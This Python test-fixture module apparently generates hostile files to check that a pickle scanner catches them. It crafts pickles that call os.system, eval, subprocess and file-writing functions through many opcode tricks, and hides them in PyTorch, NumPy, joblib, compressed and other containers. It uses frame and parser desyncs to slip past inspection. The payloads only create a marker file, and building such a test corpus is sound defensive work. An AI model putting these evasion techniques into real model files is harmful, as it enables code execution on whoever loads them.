"""Attacks for `scan`: files that make a stock loader run something. Composed, not collected:

    what is called   functions, constructors, methods that write a file when they are called
    how              every opcode by which a pickle calls, names, or reaches something
    where            every place in every container from which some loader unpickles
    broken how       what stands around it: popped again, no end, a bad opcode, oddities that CPython goes on with

An attack knows its loader; `tests/hostile/test_scan_attacks.py` shows that each of them runs.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.extras.packages.pt2 import craft_pt2
from tests.formats.dcp import craft_dcp
from tests.formats.zip.craft import Item, build

from .craft_pickle import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    binbytes,
    call,
    dict_of,
    frame,
    get,
    inst,
    integer,
    list_of,
    named,
    proto,
    put,
    short_text,
    stream,
    text,
    tuple_of,
)
from .craft_torch import MAGIC, PROTOCOL, SYSTEM_INFO, legacy, member, tar, tar_of, torch_zip

__all__ = ["ATTACKS", "Attack", "write"]

Content = bytes | dict[str, bytes]


@dataclass(frozen=True)
class Attack:
    """One file, or one folder of files; made for the marker that its payload creates."""

    name: str
    loader: str
    make: Callable[[str], Content]
    suffix: str = ".bin"


def write(attack: Attack, folder: Path, marker: str) -> Path:
    """Put an attack on disk; what a loader is pointed at."""
    content = attack.make(marker)
    stem = "".join(c if c.isalnum() else "-" for c in attack.name)
    path = folder / (stem + ("" if isinstance(content, dict) else attack.suffix))
    if isinstance(content, bytes):
        path.write_bytes(content)
        return path
    path.mkdir()
    for name, data in content.items():
        (path / name).write_bytes(data)
    return path


def system(marker: str) -> bytes:
    """The plainest payload: pushes what `os.system` gives back."""
    return call("posix", "system", text(f"touch {marker}"))


# What is called.

Arguments = Callable[[str], tuple[bytes, ...]]


def code(marker: str) -> tuple[bytes, ...]:
    return (text(f"open({marker!r}, 'w').close()"),)


def command(marker: str) -> tuple[bytes, ...]:
    return (text(f"touch {marker}"),)


def words(marker: str) -> tuple[bytes, ...]:
    return (list_of(text("touch"), text(marker)),)


def path(*more: bytes) -> Arguments:
    return lambda marker: (text(marker), *more)


W, WB = text("w"), text("wb")

FUNCTIONS: tuple[tuple[str, str, Arguments], ...] = (
    ("posix", "system", command),
    ("os", "system", command),
    ("os", "popen", command),
    ("os", "mkdir", path()),
    ("os", "mkfifo", path()),
    ("os", "symlink", lambda m: (text("/etc/hostname"), text(m))),
    ("builtins", "eval", code),
    ("__builtin__", "eval", code),
    ("builtins", "exec", code),
    ("builtins", "open", path(W)),
    ("io", "open", path(W)),
    ("_io", "FileIO", path(W)),
    ("io", "FileIO", path(W)),
    ("codecs", "open", path(W)),
    ("subprocess", "check_call", words),
    ("subprocess", "Popen", words),
    ("subprocess", "getoutput", command),
    ("commands", "getoutput", command),
    ("timeit", "timeit", lambda m: (*code(m), text("pass"), named("time", "time"), integer(1))),
    ("timeit", "main", lambda m: (list_of(text("-n1"), text("-r1"), *code(m)),)),
    ("cProfile", "run", lambda m: (*code(m), text("/dev/null"))),
    ("profile", "run", lambda m: (*code(m), text("/dev/null"))),
    ("runpy", "_run_code", lambda m: (*code(m), EMPTY_DICT)),
    ("shutil", "copyfile", lambda m: (text("/etc/passwd"), text(m))),
    ("pydoc", "pipepager", lambda m: (text("x"), text(f"cat > {m}"))),
    ("pty", "spawn", words),
    ("uuid", "_get_command_stdout", lambda m: (text("touch"), text(m))),
    ("imaplib", "IMAP4_stream", command),
    ("distutils.file_util", "write_file", lambda m: (text(m), list_of())),
    ("sqlite3", "connect", lambda m: (text(m),)),
    ("gzip", "GzipFile", path(WB)),
    ("gzip", "open", path(WB)),
    ("bz2", "BZ2File", path(WB)),
    ("lzma", "LZMAFile", path(WB)),
    ("zipfile", "ZipFile", path(W)),
    ("tarfile", "TarFile", path(W)),
    ("tarfile", "open", path(W)),
    ("logging", "FileHandler", path()),
    ("logging.handlers", "RotatingFileHandler", path()),
    ("logging.handlers", "WatchedFileHandler", path()),
    ("mailbox", "mbox", path()),
    ("mailbox", "Maildir", path()),
    ("dbm.dumb", "open", path(text("n"))),
    ("shelve", "open", path(text("n"))),
    (
        "tempfile",
        "mkdtemp",
        lambda m: (text(""), text(m.rpartition("/")[2]), text(m.rpartition("/")[0])),
    ),
    ("numpy", "save", path(integer(1))),
    ("numpy", "savetxt", path(list_of(integer(1)))),
    ("numpy", "memmap", path(text("u1"), text("w+"), integer(0), tuple_of(integer(4)))),
    ("torch", "save", lambda m: (integer(1), text(m))),
    ("torch.serialization", "save", lambda m: (integer(1), text(m))),
    ("torch._C", "PyTorchFileWriter", path()),
    ("torch._C", "_VariableFunctions.from_file", path(b"\x88", integer(4))),
    ("torch", "from_file", path(b"\x88", integer(4))),
    ("torch", "FloatStorage.from_file", path(b"\x88", integer(4))),
    ("torch.utils.collect_env", "run", command),
    ("argparse", "_os.system", command),
    ("logging", "os.system", command),
    ("torch", "os.system", command),
    ("torch.serialization", "os.system", command),
    ("torch.nn.modules.linear", "torch.os.system", command),
    ("argparse", "FileType.__call__", lambda m: (call("argparse", "FileType", W), text(m))),
    ("pathlib", "Path.touch", lambda m: (call("pathlib", "PosixPath", text(m)),)),
    ("pathlib", "PosixPath.mkdir", lambda m: (call("pathlib", "PosixPath", text(m)),)),
    (
        "numpy",
        "ndarray.tofile",
        lambda m: (call("numpy", "ndarray", tuple_of(integer(1))), text(m)),
    ),
    ("numpy", "ndarray.dump", lambda m: (call("numpy", "ndarray", tuple_of(integer(1))), text(m))),
    ("installed", "drop", lambda m: ()),
    ("installed", "Inits", lambda m: ()),
    ("installed", "Inits", lambda m: (integer(1), integer(2))),
    ("installed", "Outer.Inner", lambda m: (integer(1), integer(2))),
    ("installed", "Outer.build", lambda m: ()),
)


def functions() -> Iterator[Attack]:
    """Every function and constructor, by STACK_GLOBAL and REDUCE in a bare pickle."""
    seen: dict[str, int] = {}
    for module, name, arguments in FUNCTIONS:
        title = f"call {module}.{name}"
        seen[title] = seen.get(title, 0) + 1
        if seen[title] > 1:
            title += f" {seen[title]}"

        def make(marker: str, module=module, name=name, arguments=arguments) -> bytes:
            # Protocol 2 takes the names of Python 2; dotted names need 4.
            old = module in ("__builtin__", "commands")
            place = (
                named(module, name) if old else short_text(module) + short_text(name) + STACK_GLOBAL
            )
            return stream(place, tuple_of(*arguments(marker)), REDUCE, protocol=2 if old else 4)

        yield Attack(title, "pickle", make)


# How it is called.


def how() -> Iterator[Attack]:
    """Every opcode that calls, and every way to name what is called."""

    def attack(
        name: str, body: Callable[[str], bytes], *, protocol: int = 4, loader: str = "pickle"
    ) -> Attack:
        return Attack(f"how {name}", loader, lambda m: stream(body(m), protocol=protocol))

    yield attack("INST", lambda m: MARK + text(f"touch {m}") + inst("os", "system"), protocol=0)
    yield attack("OBJ", lambda m: MARK + named("os", "system") + text(f"touch {m}") + OBJ)
    yield attack("GLOBAL REDUCE", lambda m: call("os", "system", text(f"touch {m}")))
    yield attack("TUPLE1", lambda m: named("os", "system") + text(f"touch {m}") + TUPLE1 + REDUCE)
    yield attack("NEWOBJ", lambda m: named("installed", "Makes") + EMPTY_TUPLE + NEWOBJ)
    yield attack(
        "NEWOBJ with arguments",
        lambda m: named("installed", "Makes") + tuple_of(text("a")) + NEWOBJ,
    )
    yield attack(
        "NEWOBJ_EX",
        lambda m: (
            named("installed", "Makes") + EMPTY_TUPLE + dict_of(text("a"), text("b")) + NEWOBJ_EX
        ),
    )
    yield attack(
        "copyreg.__newobj__", lambda m: call("copyreg", "__newobj__", named("installed", "Makes"))
    )
    yield attack(
        "copyreg._reconstructor of a base",
        lambda m: call(
            "copyreg",
            "_reconstructor",
            named("installed", "Inits"),
            named("installed", "Inits"),
            integer(1),
        ),
    )
    yield attack(
        "memoised names",
        lambda m: (
            short_text("system")
            + MEMOIZE
            + POP
            + short_text("os")
            + get(0)
            + STACK_GLOBAL
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "memo by PUT",
        lambda m: (
            text("os")
            + put(0)
            + POP
            + text("system")
            + put(1)
            + POP
            + get(0)
            + get(1)
            + STACK_GLOBAL
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "memo out of order",
        lambda m: (
            text("os")
            + b"p1000\n"
            + POP
            + text("system")
            + MEMOIZE
            + POP
            + b"g1000\n"
            + get(1)
            + STACK_GLOBAL
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "a name with a leading plus",
        lambda m: (
            text("os")
            + b"p5\n"
            + POP
            + b"g+5\n"
            + text("system")
            + STACK_GLOBAL
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "a computed name",
        lambda m: (
            call("builtins", "str", text("os"))
            + call("builtins", "str", text("system"))
            + STACK_GLOBAL
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "getattr of a module",
        lambda m: (
            call("builtins", "getattr", named("argparse", "_os"), text("system"))
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "getattr of an imported module",
        lambda m: (
            call(
                "builtins",
                "getattr",
                call("importlib", "import_module", text("os")),
                text("system"),
            )
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "attrgetter",
        lambda m: (
            call("operator", "attrgetter", text("system"))
            + tuple_of(named("argparse", "_os"))
            + REDUCE
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    yield attack(
        "methodcaller",
        lambda m: (
            call("operator", "methodcaller", text("system"), text(f"touch {m}"))
            + tuple_of(named("argparse", "_os"))
            + REDUCE
        ),
    )
    yield attack(
        "a partial that is called",
        lambda m: (
            call("functools", "partial", named("os", "system"), text(f"touch {m}"))
            + EMPTY_TUPLE
            + REDUCE
        ),
    )
    yield attack(
        "the result of a factory", lambda m: call("installed", "factory") + EMPTY_TUPLE + REDUCE
    )
    yield attack(
        "map and list",
        lambda m: call(
            "builtins",
            "list",
            call("builtins", "map", named("os", "system"), list_of(text(f"touch {m}"))),
        ),
    )
    yield attack(
        "starmap and deque",
        lambda m: call(
            "collections",
            "deque",
            call(
                "itertools", "starmap", named("os", "system"), list_of(tuple_of(text(f"touch {m}")))
            ),
        ),
    )
    yield attack(
        "a function of source",
        lambda m: (
            call(
                "types",
                "FunctionType",
                call("builtins", "compile", *code(m), text("x"), text("exec")),
                EMPTY_DICT,
            )
            + EMPTY_TUPLE
            + REDUCE
        ),
    )
    yield attack("pickle.loads", lambda m: call("pickle", "loads", binbytes(stream(system(m)))))
    yield attack(
        "_load_from_bytes",
        lambda m: call(
            "torch.storage", "_load_from_bytes", binbytes(torch_zip(stream(system(m)), {}))
        ),
    )
    yield attack(
        "_load_from_bytes, the second",
        lambda m: (
            call("torch.storage", "_load_from_bytes", binbytes(torch_zip(stream(NONE), {})))
            + POP
            + call(
                "torch.storage",
                "_load_from_bytes",
                binbytes(legacy(stream(system(m)), keys=stream(list_of()), blocks=b"")),
            )
        ),
    )
    yield attack(
        "_load_from_bytes of text",
        lambda m: call(
            "torch.storage",
            "_load_from_bytes",
            call(
                "_codecs",
                "encode",
                text(torch_zip(stream(system(m)), {}).decode("latin-1")),
                text("latin1"),
            ),
        ),
    )
    yield attack(
        "_load_from_bytes, computed",
        lambda m: call(
            "torch.storage",
            "_load_from_bytes",
            call("zlib", "decompress", binbytes(zlib.compress(torch_zip(stream(system(m)), {})))),
        ),
    )
    yield attack(
        "_rebuild_from_type_v2",
        lambda m: call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            named("os", "system"),
            named("torch", "Tensor"),
            tuple_of(text(f"touch {m}")),
            NONE,
        ),
    )
    yield attack(
        "arguments in a list, for Python's unpickler",
        lambda m: named("os", "system") + list_of(text(f"touch {m}")) + REDUCE,
        loader="python pickle",
    )
    yield attack(
        "an extension code",
        lambda m: (
            call("copyreg", "add_extension", text("os"), text("system"), integer(240))
            + POP
            + b"\x82\xf0"
            + tuple_of(text(f"touch {m}"))
            + REDUCE
        ),
    )
    made = named("installed", "{}") + EMPTY_TUPLE + NEWOBJ

    def of(name: str) -> bytes:
        return made.replace(b"{}", name.encode())

    yield attack("APPEND", lambda m: of("AppendsAlone") + NONE + APPEND)
    yield attack("APPENDS to extend", lambda m: of("Extends") + MARK + NONE + APPENDS)
    yield attack("APPENDS to append", lambda m: of("AppendsAlone") + MARK + NONE + NONE + APPENDS)
    yield attack("SETITEM", lambda m: of("Sets") + NONE + NONE + SETITEM)
    yield attack("SETITEMS", lambda m: of("Sets") + MARK + NONE + NONE + SETITEMS)
    yield attack("ADDITEMS", lambda m: of("Adds") + MARK + NONE + ADDITEMS)
    yield attack("BUILD", lambda m: of("Builds") + NONE + BUILD)
    yield attack(
        "BUILD by a property",
        lambda m: of("Descends") + tuple_of(NONE, dict_of(text("weight"), NONE)) + BUILD,
    )
    yield attack("a key that is hashed", lambda m: EMPTY_DICT + of("Hashes") + NONE + SETITEM)
    yield attack(
        "SETITEM on os.environ",
        lambda m: (
            named("os", "environ")
            + text("X")
            + text("y")
            + SETITEM
            + POP
            + of("AppendsAlone")
            + NONE
            + APPEND
        ),
    )
    yield attack(
        "attributes of a class",
        lambda m: (
            named("installed", "Outer")
            + tuple_of(NONE, dict_of(text("build"), named("installed", "drop")))
            + BUILD
            + POP
            + short_text("installed")
            + short_text("Outer.build")
            + STACK_GLOBAL
            + EMPTY_TUPLE
            + REDUCE
        ),
    )


# What stands around it.


def broken() -> Iterator[Attack]:
    """A call that is thrown away, or comes before a break, or behind an oddity that CPython goes on with."""

    def attack(name: str, make: Callable[[bytes], bytes], loader: str = "pickle") -> Attack:
        return Attack(f"broken {name}", loader, lambda m: make(system(m)))

    yield attack("popped", lambda p: stream(p + POP + NONE))
    yield attack("popped to a MARK", lambda p: stream(MARK + p + POP_MARK + NONE))
    yield attack(
        "overwritten",
        lambda p: stream(EMPTY_DICT + text("a") + p + SETITEM + text("a") + NONE + SETITEM),
    )
    yield attack("no STOP", lambda p: proto(2) + p)
    yield attack("no PROTO, no STOP", lambda p: p)
    yield attack("a bad opcode", lambda p: proto(2) + p + b"\xff.")
    yield attack("a zero byte", lambda p: p + b"\0")
    yield attack("an empty stack", lambda p: proto(2) + p + POP + POP + b".")
    yield attack("bytes behind the end", lambda p: stream(p) + b"garbage" * 100)
    yield attack("text behind the end", lambda p: stream(p) + b"\n\n# a text\n")
    yield attack("more than one value", lambda p: stream(NONE + NONE + p + NONE))
    yield attack("a MARK left open", lambda p: stream(MARK + MARK + p))
    yield attack("PROTO again", lambda p: proto(2) + NONE + POP + proto(4) + p + STOP)
    yield attack("PROTO late", lambda p: NONE + POP + proto(2) + p + STOP)
    yield attack("a frame too short", lambda p: proto(4) + frame(p, 3) + STOP)
    yield attack("a frame in a frame", lambda p: proto(4) + frame(frame(p) + STOP))
    yield attack("a frame too long for it", lambda p: proto(4) + frame(p + STOP + b"behind"))
    yield attack("an empty frame", lambda p: proto(4) + frame(b"") + p + STOP)
    yield attack("many MARKs", lambda p: stream(MARK * 500 + p))
    yield attack(
        "a huge integer",
        lambda p: stream(b"\x8b" + struct.pack("<i", 5000) + b"\1" * 5000 + POP + p),
    )
    yield attack("a hexadecimal INT", lambda p: b"I0x10\n" + POP + p + STOP)
    yield attack("an odd escape", lambda p: b"S'\\q'\n" + POP + p + STOP)
    yield attack("a far memo entry", lambda p: stream(NONE + b"p100000\n" + POP + p))
    yield attack(
        "a BUILD before",
        lambda p: stream(
            named("installed", "Outer")
            + EMPTY_TUPLE
            + NEWOBJ
            + dict_of(text("a"), NONE)
            + BUILD
            + dict_of(text("b"), NONE)
            + BUILD
            + POP
            + p
        ),
    )
    yield attack(
        "a set of a list before",
        lambda p: stream(call("builtins", "set", tuple_of(integer(1))) + POP + p),
    )
    yield attack(
        "an array that lies before",
        lambda p: stream(
            call("builtins", "complex", integer(1), integer(2))
            + POP
            + call("builtins", "range", integer(1))
            + POP
            + p
        ),
    )
    yield attack("a large head", lambda p: stream(binbytes(bytes(100_000)) + POP + p))
    yield attack(
        "behind a megabyte of text, no PROTO", lambda p: text("x" * (1 << 20)) + POP + p + STOP
    )
    yield attack(
        "many values before",
        lambda p: stream(b"".join(integer(n % 256) for n in range(20_000)) + p),
    )
    yield attack("deep", lambda p: stream(EMPTY_LIST * 200 + p + APPEND * 200))
    yield attack("the second pickle", lambda p: stream(NONE) + stream(p), "pickle all")
    yield attack("the hundredth pickle", lambda p: stream(NONE) * 99 + stream(p), "pickle all")
    yield attack(
        "the second pickle, of protocol 0", lambda p: b"I1\n." + b"(lp0\n." + p + STOP, "pickle all"
    )
    yield attack("the second pickle breaks", lambda p: stream(NONE) + p, "pickle all")


# In which frames.


def frames() -> Iterator[Attack]:
    """A call that the C unpickler finds in a file because it drops the rest of a frame.

    `pickle.loads` drops nothing, so it takes the call for the content of a string.
    """

    def attack(
        name: str, make: Callable[[bytes], bytes], loader: str = "unbuffered pickle"
    ) -> Attack:
        return Attack(f"frames {name}", loader, lambda marker: make(system(marker)))

    def hide(payload: bytes) -> bytes:
        return b"B" + struct.pack("<I", len(payload))

    def cross(payload: bytes, *, start: bytes = proto(4), before: bytes = b"") -> bytes:
        long_text = text("x" * 40)
        # Five bytes of the text are in the frame, so the C unpickler goes on five bytes later.
        return (
            start + frame(before + long_text[:10]) + long_text[10:] + hide(payload) + payload + STOP
        )

    def nest(payload: bytes) -> bytes:
        return proto(4) + frame(frame(b"", len(payload)) + hide(payload)) + payload + STOP

    def stop_early(payload: bytes) -> bytes:
        return proto(4) + frame(NONE + STOP + hide(payload)) + payload + STOP

    yield attack("crossed by a text", cross)
    yield attack("crossed by a text, no PROTO", lambda p: cross(p, start=b""))
    large = binbytes(bytes(200_000)) + POP
    yield attack("a large frame crossed by a text", lambda p: cross(p, before=large), "pickle")
    yield attack("nested", nest)
    yield attack("STOP before the end", stop_early, "unbuffered pickle all")


# Where it stands.


def packed_zip(name: str, content: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def npy(pickle: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle


def old_part(index: int) -> Callable[[str], bytes]:
    """A legacy stream with a call in one of its five pickles, popped before what belongs there."""

    def make(marker: str) -> bytes:
        parts = [MAGIC, PROTOCOL, SYSTEM_INFO, stream(dict_of()), stream(list_of())]
        parts[index] = proto(2) + system(marker) + POP + parts[index][2:]
        return b"".join(parts)

    return make


def with_tar(first: bytes, marker: str) -> bytes:
    """A tar whose first header begins with other content: torch tries tar first."""
    honest = bytearray(member(b"", b"", kind=b"0"))
    honest[: len(first)] = first
    honest[148:156] = b" " * 8
    honest[148:156] = b"%06o\0 " % sum(honest[:512])
    return bytes(honest) + tar(stream(system(marker)))


def tar_first(content: bytes) -> Callable[[str], bytes]:
    return lambda marker: with_tar(content, marker)


def dcp_with(item: bytes) -> dict[str, bytes]:
    tensors = {"step": craft_dcp.value()}
    return craft_dcp.folder(
        tensors,
        [(craft_dcp.index("step", None, None), item)],
        planner=craft_dcp.paths(step=["step"]),
    )


def package(marker: str, *, code_runs: bool) -> bytes:
    items = {
        "p/.data/extern_modules": b"os\nposix\nbuiltins\n",
        "p/.data/version": b"6\n",
        "p/.data/python_version": b"3.11.0",
        "p/byteorder": b"little",
        "p/version": b"6\n",
    }
    if code_runs:
        items["p/evil.py"] = f"open({marker!r}, 'w').close()\nclass Thing: pass\n".encode()
        items["p/res/res.pkl"] = stream(named("evil", "Thing"))
    else:
        items["p/res/res.pkl"] = stream(
            named("os", "system"), tuple_of(text(f"touch {marker}")), REDUCE
        )
    return build([Item(name, content) for name, content in items.items()])


def script(marker: str) -> bytes:
    """A scripted module whose `__setstate__` writes a file, as torch.jit.save lays it out."""
    source = f"""class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def __getstate__(self: __torch__.M) -> int:
    return 1
  def __setstate__(self: __torch__.M, state: int) -> NoneType:
    self.training = True
    _0 = torch.save(torch.zeros([1]), "{marker}")
    return None
"""
    items = [
        Item(
            "m/data.pkl",
            stream(named("__torch__", "M") + EMPTY_TUPLE + NEWOBJ + integer(1) + BUILD),
        ),
        Item("m/code/__torch__.py", source.encode()),
        Item("m/constants.pkl", stream(EMPTY_TUPLE)),
        Item("m/version", b"3\n"),
    ]
    return build(items)


def expression(marker: str) -> bytes:
    """A program with an expression that is none."""
    text_ = f"__import__('os').system('touch {marker}')"
    document = {**json.loads(craft_pt2.program(())), "range": {"expr_str": text_}}
    return craft_pt2.archive(
        craft_pt2.records({"models/model.json": json.dumps(document).encode()})
    )


def where() -> Iterator[Attack]:
    """Every place from which a loader unpickles."""

    def attack(
        name: str, loader: str, make: Callable[[str], Content], suffix: str = ".bin"
    ) -> Attack:
        return Attack(f"where {name}", loader, make, suffix)

    def whole(marker: str) -> bytes:
        return stream(system(marker))

    for number, title in enumerate(("magic", "protocol", "system", "object", "keys")):
        yield attack(f"legacy {title}", "torch", old_part(number), ".pt")
    yield attack(
        "legacy, a module's class",
        "torch",
        lambda m: legacy(
            stream(
                tuple_of(text("module"), named("installed", "Builds"), text("f"), text("s"))
                + b"Q"
                + EMPTY_TUPLE
                + NEWOBJ
                + NONE
                + BUILD
            ),
            keys=stream(list_of()),
            blocks=b"",
        ),
        ".pt",
    )
    yield attack("torch zip", "torch", lambda m: torch_zip(whole(m), {}), ".pt")
    yield attack(
        "torch zip, popped",
        "torch",
        lambda m: torch_zip(stream(system(m) + POP + EMPTY_DICT), {}),
        ".pt",
    )
    yield attack(
        "torch zip, capitals",
        "torch",
        lambda m: build(
            [
                Item("a/Data.PKL", whole(m)),
                Item("a/version", b"3\n"),
                Item("a/byteorder", b"little"),
            ]
        ),
        ".pt",
    )
    yield attack(
        "torch zip, deflated",
        "torch",
        lambda m: build(
            [
                Item("a/data.pkl", whole(m), method=8),
                Item("a/version", b"3\n"),
                Item("a/byteorder", b"little"),
            ]
        ),
        ".pt",
    )
    yield attack("torch zip, no end", "torch", lambda m: torch_zip(proto(2) + system(m), {}), ".pt")
    yield attack(
        "torch zip, bytes before it", "package", lambda m: package(m, code_runs=False), ".pt"
    )
    yield attack("tar pickle", "torch", lambda m: tar(whole(m)), ".pt")
    yield attack(
        "tar storages",
        "torch",
        lambda m: tar(
            storages=proto(2) + system(m) + POP + integer(0) + STOP + stream(list_of()),
            tensors=stream(integer(0)),
        ),
        ".pt",
    )
    yield attack(
        "tar storages, the list at the end",
        "torch",
        lambda m: tar(
            storages=stream(integer(0)) + stream(system(m) + POP + list_of()),
            tensors=stream(integer(0)),
        ),
        ".pt",
    )
    yield attack(
        "tar storages, a triple",
        "torch",
        lambda m: tar(storages={"views": stream(system(m) + POP + list_of())}),
        ".pt",
    )
    yield attack(
        "tar tensors", "torch", lambda m: tar(tensors=stream(system(m) + POP + integer(0))), ".pt"
    )
    yield attack(
        "tar, old header",
        "torch",
        lambda m: tar_of(
            *(
                old_header(x)
                for x in (
                    member("storages", stream(integer(0)) + stream(list_of())),
                    member("tensors", stream(integer(0))),
                    member("pickle", whole(m)),
                )
            )
        ),
        ".pt",
    )
    yield attack(
        "tar, the last of two",
        "torch",
        lambda m: tar_of(
            member("pickle", stream(NONE)),
            member("storages", stream(integer(0)) + stream(list_of())),
            member("tensors", stream(integer(0))),
            member("pickle", whole(m)),
        ),
        ".pt",
    )
    yield attack("tar that begins as a legacy stream", "torch", tar_first(MAGIC), ".pt")
    yield attack("tar that begins as a pickle", "torch", tar_first(stream(dict_of())), ".pt")
    yield attack("npy", "numpy", lambda m: npy(whole(m)), ".npy")
    yield attack(
        "npz", "numpy", lambda m: packed_zip("a.npy", npy(whole(m)), zipfile.ZIP_STORED), ".npz"
    )
    yield attack("npz, deflated", "numpy", lambda m: packed_zip("a.npy", npy(whole(m))), ".npz")
    yield attack(
        "npz, bzip2",
        "numpy",
        lambda m: packed_zip("a.npy", npy(whole(m)), zipfile.ZIP_BZIP2),
        ".npz",
    )
    yield attack("a bare pickle for numpy", "numpy", whole, ".npy")
    yield attack("gzip", "gzip", lambda m: gzip.compress(whole(m)), ".gz")
    yield attack(
        "gzip of two members",
        "gzip",
        lambda m: gzip.compress(whole(m)[:10]) + gzip.compress(whole(m)[10:]),
        ".gz",
    )
    yield attack("bzip2", "bz2", lambda m: bz2.compress(whole(m)), ".bz2")
    yield attack("xz", "lzma", lambda m: lzma.compress(whole(m)), ".xz")
    yield attack(
        "lzma", "lzma", lambda m: lzma.compress(whole(m), format=lzma.FORMAT_ALONE), ".lzma"
    )
    yield attack("zlib", "zlib", lambda m: zlib.compress(whole(m)), ".z")
    yield attack("zlib, fast", "zlib", lambda m: zlib.compress(whole(m), 1), ".z")
    yield attack(
        "gzip of a large pickle",
        "gzip",
        lambda m: gzip.compress(stream(binbytes(bytes(300_000)) + POP + system(m))),
        ".gz",
    )
    yield attack(
        "gzip, cut", "gzip", lambda m: gzip.compress(whole(m) + bytes(range(256)) * 40)[:-60], ".gz"
    )
    yield attack("zlib of a small window", "zlib", lambda m: small_window(whole(m)), ".z")
    yield attack("a zip of pickles", "zip", lambda m: packed_zip("notes.txt", whole(m)), ".zip")
    yield attack(
        "a zip of pickles, behind other bytes",
        "zip",
        lambda m: b"#!/bin/sh\n" + packed_zip("notes.txt", whole(m)),
        ".zip",
    )
    yield attack(
        "a zip with a comment", "zip", lambda m: commented(packed_zip("x", whole(m))), ".zip"
    )
    yield attack(
        "a zip behind a pickle", "zip", lambda m: stream(NONE) + packed_zip("x", whole(m)), ".zip"
    )
    yield attack(
        "a zip behind safetensors",
        "zip",
        lambda m: safetensors_of(packed_zip("x", whole(m))),
        ".safetensors",
    )
    yield attack(
        "a zip of two records of one name", "zip", lambda m: twice(stream(NONE), whole(m)), ".zip"
    )
    yield attack("safetensors that is a pickle", "pickle", safetensors_of_pickle, ".safetensors")
    yield attack("a package's pickle", "package", lambda m: package(m, code_runs=False), ".pt")
    yield attack("a package's code", "package", lambda m: package(m, code_runs=True), ".pt")
    yield attack("TorchScript __setstate__", "jit", script, ".pt")
    yield attack("expr_str", "sympy", expression, ".pt2")
    yield attack("DCP .metadata", "dcp", lambda m: {".metadata": whole(m)}, "")
    yield attack(
        "DCP .metadata, popped",
        "dcp",
        lambda m: {
            **craft_dcp.honest(),
            ".metadata": proto(2) + system(m) + POP + craft_dcp.honest()[".metadata"][2:],
        },
        "",
    )
    yield attack("DCP __0.metadata", "dcp rank", lambda m: {"__0.metadata": whole(m)}, "")
    yield attack(
        "DCP __0.metadata beside .metadata",
        "dcp rank",
        lambda m: {**craft_dcp.honest(), "__0.metadata": whole(m)},
        "",
    )
    yield attack("DCP item", "dcp items", lambda m: dcp_with(torch_zip(whole(m), {})), "")


def joblib_array(code_: str, elements: bytes, *, aligned: bool = True) -> bytes:
    """An array as joblib writes it: its description, and the elements behind that, outside of all opcodes."""
    dtype = call("numpy", "dtype", text(code_), b"\x89", b"\x88")
    state = tuple_of(
        integer(3),
        text("|"),
        NONE,
        NONE,
        NONE,
        integer(-1),
        integer(-1),
        integer(63 if code_ == "O8" else 0),
    )
    described = dict_of(
        text("subclass"), named("numpy", "ndarray"), text("shape"), tuple_of(integer(1)), text("order"), text("C"),
        text("dtype"), dtype + state + BUILD, text("allow_mmap"), b"\x89",
        *((text("numpy_array_alignment_bytes"), integer(16)) if aligned else ()),
    )  # fmt: skip
    return (
        named("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + described
        + BUILD
        + elements
    )


def in_joblib() -> Iterator[Attack]:
    """joblib and pickle read one file differently: what is an element to one is an opcode to the other."""

    def attack(name: str, loader: str, body: Callable[[str], bytes]) -> Attack:
        return Attack(f"joblib {name}", loader, lambda m: stream(body(m)), ".joblib")

    yield attack("plain", "joblib", system)
    yield attack(
        "behind an array", "joblib", lambda m: joblib_array("u1", b"\x01\xff\xfe") + POP + system(m)
    )
    yield attack(
        "behind an old array",
        "joblib",
        lambda m: joblib_array("u1", b"\xfe", aligned=False) + POP + system(m),
    )
    yield attack(
        "an array of objects",
        "joblib",
        lambda m: joblib_array("O8", stream(system(m)), aligned=False),
    )
    yield attack(
        "elements that are opcodes",
        "joblib pickle",
        lambda m: joblib_array("S200", POP + system(m) + STOP + bytes(200)),
    )
    yield Attack(
        "joblib zlib",
        "joblib",
        lambda m: zlib.compress(stream(joblib_array("u1", b"\x00\xff") + POP + system(m))),
    )


def old_header(raw: bytes) -> bytes:
    """A tar member without the mark of POSIX, as tars had before 1988."""
    head = bytearray(raw[:512])
    head[257:265] = bytes(8)
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + raw[512:]


def small_window(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 9)
    return packer.compress(data) + packer.flush()


def commented(archive: bytes) -> bytes:
    return archive[:-2] + struct.pack("<H", 5) + b"hello"


def twice(first: bytes, second: bytes) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("x", first)
            archive.writestr("x", second)
    return out.getvalue()


